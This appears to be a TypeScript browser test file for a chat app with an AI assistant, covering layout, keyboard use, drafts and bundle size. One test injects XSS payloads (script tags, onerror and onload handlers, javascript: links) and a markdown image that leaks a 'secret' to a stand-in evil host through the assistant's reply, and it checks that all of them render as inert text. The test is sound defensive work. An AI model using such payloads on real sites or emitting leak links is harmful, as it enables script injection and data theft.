import { describe, expect, test } from 'bun:test'
import { party } from '../support/party.ts'
import { startTestServer } from '../support/server.ts'
import { Visitor } from '../support/visitor.ts'

const host = party()

const overflow = (visitor: Visitor) =>
  visitor.page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth)

describe('at every size', () => {
  test.each([
    [320, 640],
    [390, 844],
    [768, 1024],
    [1440, 900],
    [3840, 2160],
  ])('%d×%d: nothing sticks out, and one can sign up, make a room and write', async (width, height) => {
    const touch = width < 700
    const visitor = await host.arrives(`Size${width}`, {
      viewport: { width, height },
      hasTouch: touch,
      isMobile: touch,
    })
    await visitor.opens('/')
    await visitor.page.getByRole('heading', { name: 'Sign in' }).waitFor()
    expect(await overflow(visitor)).toBe(0)
    await visitor.signsUp()
    await visitor.createsRoom(`room-of-${width}`, 'fake/small')
    await visitor.composer.fill(
      `A long word: ${'abcdefghij'.repeat(20)} and code:\n\`\`\`sh\n${'echo long; '.repeat(40)}\n\`\`\``,
    )
    await visitor.presses('Send')
    await visitor.sees('A long word')
    expect(await overflow(visitor)).toBe(0)
    const composer = await visitor.composer.boundingBox()
    expect((composer?.y ?? 0) + (composer?.height ?? 0)).toBeLessThanOrEqual(height)
  })
})

describe('by keyboard', () => {
  test('@ offers the people and assistants of the room; arrows, Enter and Esc do what they should', async () => {
    const { ada } = await host.twoIn('picking', ['Fritz', 'Greta'])
    await ada.composer.pressSequentially('hi @')
    const options = ada.page.getByRole('listbox', { name: 'People and assistants' }).getByRole('option')
    await options.first().waitFor()
    expect((await options.allInnerTexts()).join(' ')).toMatch(/Greta/)
    expect((await options.allInnerTexts()).join(' ')).toMatch(/Assistant/)
    await ada.composer.pressSequentially('gre')
    await ada.until(() => document.querySelectorAll('[role=option]').length === 1, null)
    await ada.composer.press('Enter')
    expect(await ada.composer.inputValue()).toBe('hi @greta ')
    await ada.composer.pressSequentially('and @ass')
    await options.first().waitFor()
    await ada.composer.press('Escape')
    await options.first().waitFor({ state: 'detached' })
    expect(await ada.composer.inputValue()).toBe('hi @greta and @ass')
  })

  test('Enter sends, Shift+Enter breaks the line, and nothing is sent while an input method composes', async () => {
    const { ada } = await host.twoIn('entering', ['Hans', 'Ilse'])
    await ada.composer.pressSequentially('first line')
    await ada.composer.press('Shift+Enter')
    await ada.composer.pressSequentially('second line')
    await ada.composer.dispatchEvent('keydown', { key: 'Enter', isComposing: true, keyCode: 229 })
    expect(await ada.composer.inputValue()).toBe('first line\nsecond line')
    await ada.composer.press('Enter')
    expect(await ada.composer.inputValue()).toBe('')
    const row = await ada.sees('first line')
    expect(await row.innerText()).toContain('second line')
  })

  test('Alt and the arrows go from room to room', async () => {
    const ada = await host.oneIn('Jan', 'one')
    await ada.createsRoom('two', 'fake/small')
    const heading = (name: string) => ada.page.getByRole('heading', { name, exact: true }).first()
    const before = await ada.page.locator('h1').first().innerText()
    await ada.page.keyboard.press('Alt+ArrowDown')
    const other = before.includes('one') ? 'two' : 'one'
    await heading(other).waitFor()
  })
})

test('a draft survives a reload and belongs to its room', async () => {
  const { ada } = await host.twoIn('drafting', ['Kim', 'Lars'])
  await ada.composer.fill('half a thought')
  await ada.createsRoom('drafting-too', 'fake/small')
  expect(await ada.composer.inputValue()).toBe('')
  await ada.page
    .getByRole('link', { name: /^#?\s*drafting\b(?!-)/ })
    .first()
    .click()
  await ada.until(() => document.querySelector('textarea')?.value === 'half a thought', null)
  await ada.page.reload()
  await ada.until(() => document.querySelector('textarea')?.value === 'half a thought', null)
})

test('the chip beside Send tells whether the assistant will answer', async () => {
  const { ada } = await host.twoIn('forecast', ['Mara', 'Nils'])
  const chip = ada.page.locator('#composer-forecast')
  await ada.composer.fill('hello everybody')
  await chip.filter({ hasText: /stay quiet/ }).waitFor()
  await ada.composer.fill('@assistant hello')
  await chip.filter({ hasText: /will answer/ }).waitFor()
  await ada.composer.fill('@nils ask @assistant')
  await chip.filter({ hasText: /stay quiet/ }).waitFor()
})

test('what people write and call themselves stays text', async () => {
  const evil = '<img src=x onerror=alert(1)>'
  const ada = await host.arrives(evil)
  let dialogs = 0
  ada.page.on('dialog', dialog => {
    dialogs++
    void dialog.dismiss()
  })
  await ada.signsUp('evil@example.org')
  await ada.createsRoom('"><script>alert(2)</script>', 'fake/small')
  await ada.says('<script>alert(3)</script> [x](javascript:alert(4)) ![y](https://evil.example/pixel.png)')
  await ada.sees('alert(3)')
  host.provider.next({
    text: '<img src=x onerror=alert(5)> ![z](https://evil.example/leak.png?q=secret) <svg onload=alert(6)>',
    pace: 20,
  })
  await ada.says('@assistant go on')
  await ada.sees('alert(5)')
  await ada.log.locator('[data-statistics]').waitFor()
  await ada.page.reload()
  await ada.sees('alert(5)')
  expect(dialogs).toBe(0)
  expect(
    await ada.page.locator('.log script, .log svg[onload], .log img[onerror], a[href^="javascript:"]').count(),
  ).toBe(0)
})

test('a server without a provider says so, and its guide answers', async () => {
  const offline = await startTestServer({ provider: null, env: { OPENROUTER_API_KEY: '' } })
  const ada = await Visitor.arrive(host.browser, offline.url, 'Otto')
  try {
    await ada.signsUp()
    await ada.createsRoom('guide', 'offline/guide')
    await ada.page
      .getByText(/offline/i)
      .first()
      .waitFor()
    await ada.says('@assistant hello')
    await (await ada.sees('I am offline and not a language model')).locator('[data-statistics]').waitFor()
    await ada.log.locator('pre').first().waitFor()
  } finally {
    await ada.leave()
    await offline.stop()
  }
  expect(ada.complaints).toEqual([])
})

test('the way in loads nothing of the conversation, and the conversation nothing of the way in', async () => {
  const ada = await host.arrives('Paula')
  let loaded: string[] = []
  ada.page.on('request', request => {
    const [, name] = /\/assets\/([a-z]+)-[^/]*\.js$/.exec(request.url()) ?? []
    if (name) loaded.push(name)
  })
  await ada.signsUp()
  await ada.createsRoom('light', 'fake/small')
  loaded = []
  await ada.page.reload()
  await ada.composer.waitFor()
  expect(loaded).toContain('chat')
  expect(loaded.filter(name => name === 'account' || name === 'rooms')).toEqual([])
  await ada.presses('Sign out')
  await ada.page.getByLabel('Email').waitFor()
  loaded = []
  await ada.page.reload()
  await ada.page.getByLabel('Email').waitFor()
  expect(loaded).toContain('account')
  expect(loaded.filter(name => name === 'chat' || name === 'rooms')).toEqual([])
})

test('a room can be read and written in after at most 90 KB of script, gzipped, and colour comes when it is needed', async () => {
  const petra = await host.server.person('Petra')
  const room = await petra.creates({ name: 'weighed' })
  await petra.says(room, 'plain text')
  const visitor = await host.arrives('Petra')
  const sizes = new Map<string, number>()
  visitor.page.on('response', async response => {
    if (/\/assets\/.*\.js$/.test(response.url()))
      sizes.set(response.url(), Bun.gzipSync(new Uint8Array(await response.body())).length)
  })
  await visitor.isSignedIn(petra)
  // What was asked for up to the moment at which the conversation stands there and waits for an answer.
  await visitor.page.addInitScript(() => {
    new MutationObserver((_, observer) => {
      if (!document.querySelector('article') || !document.querySelector('textarea:enabled')) return
      observer.disconnect()
      const names = performance.getEntriesByType('resource').map(({ name }) => name)
      Object.assign(window, { neededFirst: names })
    }).observe(document, { childList: true, subtree: true })
  })
  await visitor.opens(`/rooms/${room.id}`)
  await visitor.sees('plain text')
  await visitor.until(() => 'neededFirst' in window, null)
  const names = await visitor.page.evaluate(() => (window as unknown as { neededFirst: string[] }).neededFirst)
  const initial = names.reduce((sum, name) => sum + (sizes.get(name) ?? 0), 0)
  expect(initial).toBeGreaterThan(20_000)
  expect(initial).toBeLessThan(90 * 1024)
  await visitor.page
    .getByRole('complementary', { name: 'Details' })
    .getByRole('heading', { name: /People/ })
    .waitFor()
  const coloured = [...sizes.keys()].filter(name => /core|typescript/.test(name))
  expect(coloured).toEqual([])
  await visitor.says('```ts\nconst x = 1\n```')
  await visitor.log.locator('pre .hljs-keyword').waitFor()
})
